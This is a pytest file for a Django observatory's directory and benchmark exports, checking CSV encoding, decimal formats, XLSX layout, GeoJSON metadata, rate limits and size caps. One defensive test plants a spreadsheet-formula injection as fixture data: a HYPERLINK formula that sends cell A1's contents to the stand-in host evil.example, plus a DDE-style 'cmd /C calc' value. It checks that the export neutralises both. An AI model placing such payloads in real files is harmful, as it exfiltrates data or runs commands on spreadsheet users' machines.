"""Exports re-read as a spreadsheet user or a GIS tool would: CSV (BOM, ';'), XLSX (openpyxl), GeoJSON."""

import csv
import io
import json
import re

import pytest
from django.utils import translation
from openpyxl import load_workbook

from essor.sirene.models import Zone

DIRECTORY = "/{lang}/observatoire/territoires/epci/243100518/annuaire.{fmt}"
RATE_LIMIT_QUERIES = 6  # the per-client export counter in the shared database cache (read, count, write)


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_directory_csv(client, precomputed, lang, django_assert_max_num_queries):
    # Streamed: one COUNT (immediate or background export?), the rows in chunks, communes once per chunk.
    with django_assert_max_num_queries(7 + RATE_LIMIT_QUERIES):
        response = client.get(DIRECTORY.format(lang=lang, fmt="csv"), {"family": "association"})
        raw = body_of(response)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="essor-annuaire-epci-243100518-2026-11-01.csv"' in response["Content-Disposition"]
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheets detect the encoding
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    header, data, source = rows[0], rows[1:-1], rows[-1]
    # The last line says where the figures come from, their vintage, and that they are synthetic.
    assert "SIRENE" in source[0] and "2026" in source[0] and len(source) == 1
    assert ("synthétiques" if lang == "fr" else "Synthetic") in source[0]
    assert header[:3] == (["siret", "Nom", "Famille"] if lang == "fr" else ["siret", "Name", "Family"])
    assert len(data) == 7  # 4 (a) + 3 (e)
    names = {row[1] for row in data}
    assert names == {"Les Amis du Mirail", "Club Capitole"}
    assert all(len(row[0]) == 14 for row in data)  # SIRET kept as text with its zeros
    zone = header.index("Zone")
    with translation.override(lang):  # the zone labels belong to the sirene app's catalogue
        assert {row[zone] for row in data} == {str(Zone.QPV.label), str(Zone.HORS_QPV.label)}
    employer = header.index("Employeur" if lang == "fr" else "Employer")
    assert {row[employer] for row in data} <= ({"Oui", "Non"} if lang == "fr" else {"Yes", "No"})
    longitude = [row[header.index("Longitude")] for row in data if row[header.index("Longitude")]]
    assert longitude and all(re.fullmatch(r"-?\d+,\d{1,6}", value) for value in longitude)  # decimal comma


def test_directory_csv_with_a_decimal_point(client, precomputed):
    raw = body_of(client.get(DIRECTORY.format(lang="en", fmt="csv"), {"decimal": "point"}))
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=","))
    longitude = [row[rows[0].index("Longitude")] for row in rows[1:-1] if row[rows[0].index("Longitude")]]
    assert longitude and all(re.fullmatch(r"-?\d+\.\d{1,6}", value) for value in longitude)


def test_directory_xlsx(client, precomputed, django_assert_max_num_queries):
    with django_assert_max_num_queries(7 + RATE_LIMIT_QUERIES):  # + the count checked against the XLSX cap
        response = client.get(DIRECTORY.format(lang="en", fmt="xlsx"), {"employer": "yes", "sort": "-name"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    sheet = workbook[workbook.sheetnames[0]]
    rows = list(sheet.iter_rows(values_only=True))
    start = next(index for index, row in enumerate(rows) if row and row[0] == "siret")
    notes = [row[0] for row in rows[:start] if row and row[0]]
    assert any("Synthetic" in line for line in notes)  # seen above the table, not only on another sheet
    assert rows[start][1] == "Name"
    assert len(rows) == start + 1 + 7
    names = [row[1] for row in rows[start + 1 :]]
    assert names == sorted(names, reverse=True)
    about = [row[0] for row in workbook["About"].iter_rows(values_only=True)]
    assert any("Synthetic" in line for line in about)


def test_directory_geojson(client, precomputed):
    response = client.get(DIRECTORY.format(lang="en", fmt="geojson"), {"zone": "qpv"})
    assert response["Content-Type"] == "application/geo+json"
    data = json.loads(body_of(response))
    assert data["type"] == "FeatureCollection"
    assert data["metadata"]["release"] == {"vintage": "2026-11-01", "synthetic": True}
    assert data["metadata"]["filters"] == {"zone": "qpv"}
    assert len(data["features"]) == 4
    feature = data["features"][0]
    assert feature["geometry"]["type"] == "Point" and len(feature["geometry"]["coordinates"]) == 2
    assert feature["properties"]["qpv24_code"] == "QN03104M"


def test_export_of_an_unknown_format_is_a_404(client, precomputed):
    assert client.get(DIRECTORY.format(lang="en", fmt="pdf")).status_code == 404


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_benchmark_csv_and_xlsx(client, precomputed, lang, django_assert_max_num_queries):
    with django_assert_max_num_queries(5):
        raw = client.get(f"/{lang}/observatoire/metropoles.csv", {"sort": "name", "order": "asc"}).content
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert [row[0] for row in rows[1:-1]] == [
        "Métropole de Lyon",
        "Métropole du Grand Paris",
        "Toulouse Métropole",
    ]
    assert len(rows[0]) == 16
    toulouse = dict(zip(rows[0], rows[3], strict=True))
    assert toulouse["SIREN"] == "243100518"
    assert (
        toulouse["Nature"] == "Métropole"
    )  # the label, not the code METRO (a French term in both languages)
    share = toulouse["Part de l'ESS" if lang == "fr" else "ESS share"]
    assert share == "0,196078"  # 10 / 51, rounded, with the decimal comma of French spreadsheets
    assert rows[-1][0].startswith("Millésime" if lang == "fr" else "SIRENE release")
    workbook = load_workbook(io.BytesIO(client.get(f"/{lang}/observatoire/metropoles.xlsx").content))
    sheet = workbook[workbook.sheetnames[0]]
    cells = list(sheet.iter_rows())
    start = next(index for index, row in enumerate(cells) if len(row) > 1 and row[1].value == "SIREN")
    values = [[cell.value for cell in row] for row in cells[start:]]
    assert len(values) == 4
    assert values[1][1] == "243100518" and values[1][5] == 10  # sorted by ESS establishments, descending
    share_cell = cells[start + 1][6]
    assert (
        isinstance(share_cell.value, float) and share_cell.value == 0.196078
    )  # rounded as in the API, no float noise
    assert share_cell.number_format == "0.0%"
    assert cells[start + 1][3].number_format == "#,##0" and isinstance(cells[start + 1][3].value, int)
    assert cells[0][0].value.startswith("Millésime" if lang == "fr" else "SIRENE release")


EVIL = '=HYPERLINK("http://evil.example/?x="&A1, "Cliquez ici")'


def test_formula_in_a_name_is_neither_run_in_csv_nor_live_in_xlsx(client, precomputed):
    """Issue 16 §6: an establishment named like a formula is exported as text (directory CSV and XLSX)."""
    from essor.observatory.tests.factories import EssEstablishmentFactory

    EssEstablishmentFactory(release=precomputed, name=EVIL, address="@SUM(1+1)*cmd|' /C calc'!A0")
    raw = body_of(client.get(DIRECTORY.format(lang="fr", fmt="csv")))
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    evil_rows = [row for row in rows if len(row) > 1 and EVIL in row[1]]
    assert len(evil_rows) == 1 and evil_rows[0][1] == "'" + EVIL
    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)

    workbook = load_workbook(io.BytesIO(client.get(DIRECTORY.format(lang="fr", fmt="xlsx")).content))
    cells = [cell for row in workbook[workbook.sheetnames[0]].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no live formula anywhere
    assert "'" + EVIL in {cell.value for cell in cells}


def test_directory_exports_are_limited_per_client(client, precomputed, settings):
    """Issue 16 §5: an anonymous client cannot hold the workers with export after export."""
    settings.ESSOR_RATE_LIMITS = {"directory-export": "2/h"}
    statuses = [client.get(DIRECTORY.format(lang="fr", fmt="csv")).status_code for _ in range(3)]
    assert statuses == [200, 200, 429]
    refused = client.get(DIRECTORY.format(lang="en", fmt="xlsx"))
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0
    assert client.get(DIRECTORY.format(lang="fr", fmt="csv"), REMOTE_ADDR="10.1.2.3").status_code == 200


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_an_xlsx_export_too_large_for_memory_offers_the_streamed_csv(client, precomputed, monkeypatch, lang):
    from essor.observatory.views import directory_pages

    monkeypatch.setattr(directory_pages, "DIRECTORY_XLSX_MAX_ROWS", 3)
    response = client.get(DIRECTORY.format(lang=lang, fmt="xlsx"), {"family": "association"})
    assert response.status_code == 413
    text = response.content.decode()
    assert ("fichier CSV" if lang == "fr" else "CSV file") in text
    assert "annuaire.csv?family=association" in text
    assert client.get(DIRECTORY.format(lang=lang, fmt="csv"), {"family": "association"}).status_code == 200
